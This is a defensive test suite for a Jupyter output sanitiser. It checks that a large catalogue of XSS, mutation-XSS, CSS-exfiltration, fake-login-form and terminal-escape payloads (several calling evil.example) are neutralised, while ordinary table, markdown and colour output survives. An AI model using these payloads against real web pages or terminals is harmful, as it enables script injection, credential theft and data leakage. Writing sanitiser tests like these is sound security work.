"""What a host sends is harmless when it is shown, and still of use."""

from __future__ import annotations

import base64
import re
import time
from html.parser import HTMLParser

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from nosana_jupyter import sanitize

ALLOWED_TAGS = frozenset(
    "a abbr b bdi bdo blockquote br caption center cite code col colgroup dd del details dfn div "
    "dl dt em figcaption figure font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark meter ol p pre "
    "progress q rp rt ruby s samp section small span strike strong sub summary sup table tbody td "
    "tfoot th thead time tr tt u ul var audio video source".split()
)
ALLOWED_ATTRIBUTES = frozenset(
    "class style title align valign dir lang href src alt width height colspan rowspan scope span "
    "border color size start type value max min open datetime rel "
    "controls loop muted".split()
)


class Reader(HTMLParser):
    """Refuses all that could run, load or lead astray. Written apart from what it judges."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED_TAGS
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES
            text = value or ""
            if name == "href":
                assert text.lower().startswith(("http://", "https://", "mailto:", "#"))
            if name == "src":
                kind = r"image/(png|jpeg|gif|webp|svg\+xml)" if tag == "img" else r"(audio|video)/"
                assert re.match(rf"data:{kind}[\w.+-]*;base64,", text, re.I)
            if name == "style":
                assert not re.search(r"url|expression|@|\\|/\*|image|position|-\d", text, re.I)
            if name == "class":
                assert not re.search(r"jp-|lm-|modal|dialog", text, re.I)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def judged(text: str) -> str:
    """Sanitise, and fail if anything active is left."""
    made = sanitize.html(text)
    reader = Reader()
    reader.feed(made)
    reader.close()
    assert sanitize.html(made) == made
    return made


ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script, odd case": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "script, split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script, slash": "<script/x>alert(1)</script>",
    "script, unclosed": "<script>alert(1)",
    "script as module": '<script type="module">import("//evil.example")</script>',
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror, slashes": "<img/src=x/onerror=alert(1)>",
    "img onerror, quotes": "<img src=\"x\" onerror='alert(1)'>",
    "img onerror, backtick": "<img src=`x` onerror=alert(1)>",
    "img onerror, newline": "<img src=x\nonerror\n=\nalert(1)>",
    "img onerror, nul": "<img src=x one\x00rror=alert(1)>",
    "body onload": "<body onload=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "input autofocus": "<input autofocus onfocus=alert(1)>",
    "style animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationend=a>",
    "pointer": "<div onpointerover=alert(1) onmouseover=alert(1)>x</div>",
    "href javascript": "<a href=javascript:alert(1)>x</a>",
    "href javascript, case": "<a href=JaVaScRiPt:alert(1)>x</a>",
    "href javascript, tab": "<a href='java\tscript:alert(1)'>x</a>",
    "href javascript, newline": "<a href='java\nscript:alert(1)'>x</a>",
    "href javascript, control": "<a href='\x01javascript:alert(1)'>x</a>",
    "href javascript, entity": "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "href javascript, long entity": "<a href='&#0000106avascript:alert(1)'>x</a>",
    "href javascript, space": "<a href=' javascript:alert(1)'>x</a>",
    "href vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "href data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "href data, base64": "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "href command": "<a href='command:workbench.action.terminal.sendSequence'>x</a>",
    "href vscode": "<a href='vscode://file/etc/passwd'>x</a>",
    "href file": "<a href='file:///etc/passwd'>x</a>",
    "href relative": "<a href='/api/shutdown'>x</a>",
    "href no scheme": "<a href='//evil.example'>x</a>",
    "xlink": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "img far": "<img src='https://evil.example/seen.png'>",
    "img no scheme": "<img src='//evil.example/seen.png'>",
    "img relative": "<img src='/files/secret'>",
    "img data html": "<img src='data:text/html;base64,AAAA'>",
    "img srcset": "<img srcset='https://evil.example/x 2x'>",
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg script, odd": "<svg><script xlink:href=data:,alert(1) />",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg set": "<svg><a><set attributeName=href to=javascript:alert(1)></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "svg foreignObject": "<svg><foreignObject><iframe src=javascript:alert(1)></svg>",
    "svg image": "<svg><image href='https://evil.example/x'/></svg>",
    "style url": "<p style='background-color:url(https://evil.example)'>x</p>",
    "style url, entity": "<p style='background:&#117;rl(https://evil.example)'>x</p>",
    "style url, escape": r"<p style='background:\75rl(https://evil.example)'>x</p>",
    "style url, comment": "<p style='background:u/**/rl(https://evil.example)'>x</p>",
    "style url, quoted": "<p style='background: url(\"https://evil.example\")'>x</p>",
    "style image-set": "<p style='background:image-set(\"https://evil.example\" 1x)'>x</p>",
    "style expression": "<p style='width:expression(alert(1))'>x</p>",
    "style binding": "<p style='-moz-binding:url(//evil.example)'>x</p>",
    "style behavior": "<p style='behavior:url(x.htc)'>x</p>",
    "style overlay": "<div style='position:fixed;top:0;left:0;width:100%;z-index:9999'>x</div>",
    "style shift": "<div style='margin-top:-2000px;margin:-5px'>x</div>",
    "style open quote": "<p style=\"font-family:'a;color:red;background:url(x)\">x</p>",
    "style block": "<style>@import url(https://evil.example/x.css);*{display:none}</style>",
    "style block, ids": '<style>#a{background:url(//evil.example)}</style><p id="a">x</p>',
    "style block, break": "<style>#a{x:\"><img src=x onerror=a>}</style><p id=\"a\">x</p>",
    "style block, break 2": "<style>#a{x:'><script>a</script>}</style><p  id=\"a\">x</p>",
    "class of a dialog": "<div class='jp-Dialog lm-Widget modal fade'>log in</div>",
    "id and name": "<p id=toolbar name=cookie>x</p>",
    "data attribute": "<p data-commandlinker-command='terminal:create-new'>x</p>",
    "iframe": "<iframe src=javascript:alert(1)></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frameset": "<frameset onload=alert(1)><frame src=javascript:a></frameset>",
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "embed": "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "applet": "<applet code=x></applet>",
    "form": "<form action=https://evil.example><input name=password><button>go</button></form>",
    "button formaction": "<button formaction=javascript:alert(1)>x</button>",
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "textarea": "<textarea autofocus onfocus=alert(1)></textarea><select><option>x</select>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "meta csp": "<meta http-equiv=Content-Security-Policy content=x>",
    "link": "<link rel=stylesheet href=https://evil.example/x.css>",
    "link prefetch": "<link rel=dns-prefetch href=//secret.evil.example>",
    "base": "<base href=https://evil.example/>",
    "video": "<video onerror=alert(1)><source src=x></video><audio src=x onerror=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "portal": "<portal src=https://evil.example></portal><dialog open>x</dialog>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "template, shadow": "<div><template shadowrootmode=open><script>a</script></template></div>",
    "slot": "<slot onslotchange=alert(1)></slot><x-y onclick=alert(1)>x</x-y>",
    "mutation: noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation: svg style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation: math": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation: form": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "mutation: annotation": "<math><annotation-xml encoding='text/html'><style>"
    "<img src=x onerror=alert(1)></style></annotation-xml></math>",
    "mutation: title": "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "mutation: desc": "<svg><desc><noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "mutation: xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "mutation: noframes": "<noframes><p title='</noframes><script>alert(1)</script>'>",
    "mutation: plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "mutation: textarea": "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "mutation: select": "<select><style></select><script>alert(1)</script></style>",
    "mutation: cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "mutation: table": "<table><svg><td><img src=x onerror=alert(1)></table>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "comment, conditional": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "comment, bang": "<!--x--!><img src=x onerror=alert(1)>",
    "processing": "<?xml-stylesheet href='javascript:alert(1)'?><!DOCTYPE x [<!ENTITY a 'b'>]>",
    "unclosed tag": "<img src=x onerror=alert(1)//",
    "unclosed attribute": "<p title=\"><script>alert(1)</script>",
    "double less-than": "<<script>alert(1)//<</script>",
    "nested encodings": "&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=a&amp;gt;",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "fullwidth": "＜script＞alert(1)＜/script＞",
    "control inside a name": "<scr\x00ipt>alert(1)</scr\x00ipt>",
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_attacks_end_as_text(attack: str) -> None:
    """
    Nothing that runs, loads, leads astray or leaves its place gets through, in any known dress.
    """
    judged(attack)
    judged(f"<table><tr><td>{attack}</td></tr></table>")
    judged(f"<p>before</p>{attack}<p>after</p>")
    for mime in ("text/html", "text/markdown"):
        clean, _ = sanitize.bundle({mime: attack})
        judged(clean.get("text/html", ""))


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "![x](https://evil.example/seen.png)",
        "<javascript:alert(1)>",
        "[a]: javascript:alert(1)\n\n[a]",
        '[x](https://x "onclick=alert(1)")',
        "`<script>`\n\n    <script>alert(1)</script>",
        "```html\n<script>alert(1)</script>\n```",
    ],
)
def test_markdown_is_cleaned(text: str) -> None:
    """
    Markdown is shown as the clean HTML it means: links of it are judged as links of HTML.
    """
    clean, dropped = sanitize.bundle({"text/markdown": text})

    assert set(clean) == {"text/html"}
    assert not dropped
    judged(clean["text/html"])


def test_formulas_make_no_links() -> None:
    """
    MathJax reads HTML too: its macros that link or load are spelled so that it does not know them.
    """
    made = judged(r"$\href{javascript:alert(1)}{x}$ $\hr<wbr>ef{javascript:a}{x}$ $\frac12$")

    assert r"\href" not in made
    assert r"\frac12" in made
    for formula in (r"$\href{x}{y}$", r"\require{html}", r"\style{x}{y}", r"\HTMLCLASS{a}{b}"):
        assert sanitize.bundle({"text/latex": formula}) == ({}, ["text/latex"])
    assert sanitize.bundle({"text/latex": r"$\frac{1}{2}$"})[0] == {"text/latex": r"$\frac{1}{2}$"}


# What is of use stays.


def test_a_frame_survives() -> None:
    """
    The table of a DataFrame keeps its cells, its border and its class, which front ends style.
    """
    frame = pd.DataFrame({"a": [1.5, -2], "b": ["x<y", "<script>z</script>"]})

    made = judged(frame._repr_html_())

    assert '<table border="1" class="dataframe">' in made
    assert made.count("<tr") == 3
    assert "<td>-2.0</td>" in made
    assert "<td>x&lt;y</td>" in made


def test_a_styled_frame_keeps_its_colours() -> None:
    """
    pandas writes the colours of cells as rules of a style block; they end on the cells themselves.
    """
    frame = pd.DataFrame({"a": [1.0, 2.0], "b": [3.0, 4.0]})
    styled = (
        frame.style.highlight_max(subset=["a"])
        .bar(subset=["b"])
        .set_caption("A caption")
        .format(precision=1)
    )

    made = judged(styled._repr_html_())

    assert "<caption>A caption</caption>" in made
    assert re.search(r'<td style="background-color:yellow"[^>]*>2.0</td>', made)
    assert "linear-gradient(90deg" in made
    assert 'class="col_heading level0 col0"' in made
    assert "<style" not in made


def test_layout_of_text_survives() -> None:
    """
    What libraries write for tables, progress and folding comes through as it was.
    """
    for text in (
        '<b style="color:#ff0000;font-weight:bold">x</b>',
        '<p style="background-color:rgba(0, 0, 0, 0.5)">x</p>',
        '<details open=""><summary>more</summary><pre>code</pre></details>',
        '<progress value="3" max="10"></progress>',
        '<td colspan="2" rowspan="3" style="text-align:right">x</td>',
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="plot" width="40">',
        '<a href="https://nosana.com" rel="noopener noreferrer">a</a>',
        "<h1>H</h1><ul><li>a</li></ul><hr><blockquote>q</blockquote>",
        '<font color="red">x</font>',
    ):
        whole = f"<table><tbody><tr>{text}</tr></tbody></table>" if text[1:3] == "td" else text
        assert judged(whole) == whole


# MIME types.


def test_only_known_formats_are_shown() -> None:
    """
    What a front end would run, or hand to an extension, is dropped and named; the rest stays.
    """
    png = base64.b64encode(b"\x89PNG").decode()
    data = {
        "text/plain": "x",
        "text/html": "<b>x</b><script>1</script>",
        "image/png": png,
        "image/jpeg": png,
        "image/gif": png,
        "image/webp": png,
        "application/json": {"a": [1, None]},
        "text/latex": "$x$",
        "application/javascript": "alert(1)",
        "text/javascript": "alert(1)",
        "application/ecmascript": "alert(1)",
        "application/vnd.bokehjs_exec.v0+json": "",
        "application/vnd.bokehjs_load.v0+json": "",
        "application/vnd.holoviews_exec.v0+json": "",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
        "application/vnd.jupyter.widget-state+json": {},
        "application/vnd.plotly.v1+json": {},
        "application/vnd.vegalite.v5+json": {},
        "application/vnd.nosana.job+json": {"job": "x"},
        "application/vnd.code.notebook.error": "x",
        "application/pdf": png,
        "video/mp4": png,
        "text/x-unknown": "x",
        "TEXT/HTML": "<script>1</script>",
        "text/html; charset=utf-8": "<script>1</script>",
        "evil\x1b[2J": "x",
    }

    clean, dropped = sanitize.bundle(data)

    kept = list(data)[:8]
    assert list(clean) == kept
    assert clean["text/html"] == "<b>x</b>"
    assert clean["image/png"] == png
    assert len(dropped) == len(data) - len(kept)
    assert "application/javascript" in dropped
    assert "evil" in dropped


def test_pictures_are_pictures() -> None:
    """
    SVG becomes an image, which runs nothing; what is not base64 is no picture.
    """
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>1</script></svg>"

    clean, dropped = sanitize.bundle({"image/svg+xml": svg})

    assert dropped == []
    assert list(clean) == ["text/html"]
    made = judged(clean["text/html"])
    assert base64.b64encode(svg.encode()).decode() in made
    assert sanitize.bundle({"image/png": "<script>"}) == ({}, ["image/png"])
    assert sanitize.bundle({"image/png": 3, "text/plain": ["x"], "text/html": None})[0] == {}


def test_numbers_that_json_has_not_are_refused() -> None:
    """
    A kernel cannot send NaN: an output that holds it is dropped, and does not break the cell.
    """
    for value in (float("nan"), float("inf"), {"a": [float("nan")]}):
        assert sanitize.bundle({"application/json": value}) == ({}, ["application/json"])
    found = sanitize.metadata(
        {"image/png": {"width": float("nan"), "height": 3, "x": 1}, "text/html": {"isolated": True}}
    )
    assert found == {"image/png": {"height": 3}}
    assert sanitize.metadata({"image/png": "x", "needs_background": "light"}) == {}


@pytest.mark.parametrize(
    "data",
    [
        {"text/html": "<div>" * 500_000},
        {"text/html": "<div><table><td></div></table>" * 500_000},
        {"text/html": "<i>x</i>" * 500_000},
        {"text/html": "x" * (sanitize.LARGEST + 1)},
        {"text/markdown": "[" * 2_000_000},
        {"text/markdown": "<div>" * 100_000},
        {"application/json": ["x" * 1000] * 50_000},
    ],
    ids=["deep", "deep, closed", "many", "long", "markdown", "markdown, deep", "json"],
)
def test_what_would_take_long_is_dropped(data: dict[str, object]) -> None:
    """
    Reading HTML takes the square of its depth: a host must not hold the kernel up with it.
    """
    began = time.monotonic()

    clean, dropped = sanitize.bundle(data)

    assert (clean, dropped) == ({}, list(data))
    assert time.monotonic() - began < 5


# Terminals.

COLOURS = ["\x1b[0m", "\x1b[31m", "\x1b[1;38;5;208m", "\x1b[38:2::1:2:3m", "\x1b[m"]
ESCAPES = {
    "clipboard": "\x1b]52;c;aGk=\x07",
    "clipboard, ST": "\x1b]52;c;aGk=\x1b\\",
    "clipboard, C1": "\x9d52;c;aGk=\x9c",
    "title": "\x1b]0;title\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\",
    "picture": "\x1b]1337;File=inline=1:AAAA\x07",
    "palette": "\x1b]4;1;rgb:00/00/00\x07",
    "unclosed": "\x1b]52;c;aGk=",
    "clear": "\x1b[2J\x1b[H",
    "cursor up": "\x1b[99A",
    "erase line": "\x1b[2K",
    "scroll": "\x1b[1;5r",
    "alternate screen": "\x1b[?1049h",
    "paste mode": "\x1b[?2004l",
    "mouse": "\x1b[?1000h",
    "keys": "\x1b[>4;2m",
    "report": "\x1b[6n\x1b[c\x1b[>c\x1b[5n",
    "window": "\x1b[3;0;0t\x1b[21t",
    "insert": "\x1b[4h",
    "reset": "\x1bc",
    "save, restore": "\x1b7\x1b8",
    "charset": "\x1b(0\x1b)B\x0e\x0f",
    "keypad": "\x1b=\x1b>",
    "DCS": "\x1bP$q\"p\x1b\\",
    "DCS, C1": "\x90$q\x9c",
    "sixel": "\x1bPq#0;2;0;0;0\x1b\\",
    "APC": "\x1b_Gf=100;AAAA\x1b\\",
    "PM, SOS": "\x1b^x\x1b\\\x1bXy\x1b\\",
    "C1 CSI": "\x9b2J\x9b31m",
    "bell": "\x07",
    "nul": "\x00",
    "form feed": "\x0b\x0c",
    "delete": "\x7f",
    "half": "\x1b",
    "half CSI": "\x1b[31",
    "escape in escape": "\x1b\x1b[2J",
    "tmux": "\x1bk title\x1b\\",
}  # fmt: skip


@pytest.mark.parametrize("escape", ESCAPES.values(), ids=ESCAPES.keys())
def test_terminal_escapes_are_removed(escape: str) -> None:
    """
    Clipboard, title, links, cursor, screens, reports: whatever is not a colour is gone.
    """
    made = sanitize.terminal(f"a{escape}")

    assert made[0] == "a"
    assert not re.search(r"[\x00-\x07\x0b\x0c\x0e-\x1f\x7f-\x9f]", made)
    assert "aGk" not in made
    assert "evil" not in made


@pytest.mark.parametrize("text", [*COLOURS, "\r", "\n", "\t", "\b", "é 漢 🙂", "[31m", ""])
def test_colours_and_lines_stay(text: str) -> None:
    """
    Colours, and the controls of progress bars and tables, are left as they are.
    """
    assert sanitize.terminal(f"a{text}b") == f"a{text}b"


def test_a_line_is_one_line() -> None:
    """
    What is quoted in our own sentences has no controls at all.
    """
    assert sanitize.line("a\x1b[31m b\r\n\x1b]0;t\x07c\x08\td") == "a b c d"
    assert sanitize.line("a\u202eb\u200b\ufeffc \U000e0041d\ue000") == "abc d"


# At random.

PIECES = st.sampled_from(
    [
        *ATTACKS.values(), "<", ">", "</", "/>", '"', "'", "=", "&", ";", "&lt;", "<!--", "-->",
        "<![CDATA[", "]]>", "<p ", "<a href=", "<img src=", " style=", " onerror=", " id=\"a\" ",
        "javascript:", "data:image/png;base64,", "url(", "<style>", "</style>", "#a{", "}", "<svg>",
        "<math>", "<mtext>", "<table>", "<td>", "<select>", "<template>", "</template>", "<br>",
        "\\href", "\\hr<wbr>ef", "\x00", "\r", "\n", "\u2028", "é",
    ]
)  # fmt: skip
TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=30)
PAGES = st.lists(PIECES | TEXT, max_size=12).map("".join)


@given(PAGES)
@example('<style>#a{color:red}</style><p id="a" style="">')
@example("<p style=';;'><p class='x-y'>")
def test_no_page_is_active(page: str) -> None:
    """
    No mixture of attacks and noise leaves anything active; cleaning twice is cleaning once.
    """
    judged(page)
    clean, _ = sanitize.bundle({"text/markdown": page, "text/plain": page, "text/latex": page})
    judged(clean.get("text/html", ""))
    assert sanitize.bundle(clean) == (clean, [])


@given(st.lists(st.sampled_from([*COLOURS, *ESCAPES.values()]) | TEXT, max_size=12).map("".join))
def test_no_text_moves_a_terminal(text: str) -> None:
    """
    Of any text only colours, tabs, line ends and backspaces are left, and cleaning it again
    changes nothing.
    """
    made = sanitize.terminal(text)

    assert sanitize.terminal(made) == made
    left = re.sub(r"\x1b\[[0-9;:]*m", "", made)
    assert not re.search(r"[\x00-\x07\x0b\x0c\x0e-\x1f\x7f-\x9f]", left)
    assert not re.search(r"[\x00-\x1f\x7f-\x9f]", sanitize.line(text))


@given(
    st.dictionaries(
        st.sampled_from([*sanitize._RULES, "application/javascript", "x"]) | TEXT,
        st.recursive(st.none() | st.booleans() | st.floats() | TEXT | PAGES, st.lists, max_leaves=4)
        | st.dictionaries(TEXT, TEXT, max_size=3),
        max_size=6,
    )
)
def test_any_bundle_is_judged(data: dict[str, object]) -> None:
    """
    Whatever a host sends as an output, each representation is either shown or named as dropped.
    """
    clean, dropped = sanitize.bundle(data)

    assert set(clean) <= {*sanitize._RULES} - {"image/svg+xml", "text/markdown"}
    assert len(dropped) <= len(data)
    judged(clean.get("text/html", ""))
    assert sanitize.bundle(clean) == (clean, [])
    sanitize.metadata({str(mime): value for mime, value in data.items()})


@pytest.mark.parametrize(
    "text",
    ["<p " + " ona" * 20_000, "<b>" + " " * 100_000, "<p title='" + ">a" * 50_000 + "'>x</p>",
     "<" * 100_000, "<a" * 50_000, "<p on" + "a" * 100_000],
    ids=["handlers", "spaces", "marks", "open", "tags", "letters"],
)  # fmt: skip
def test_saying_that_html_was_cut_takes_no_time(text: str) -> None:
    """
    A host cannot hold up a notebook with HTML made to be slow to look at.
    """
    began = time.monotonic()
    sanitize.is_cut({"text/html": text})
    sanitize._is_seen(text)

    assert time.monotonic() - began < 2
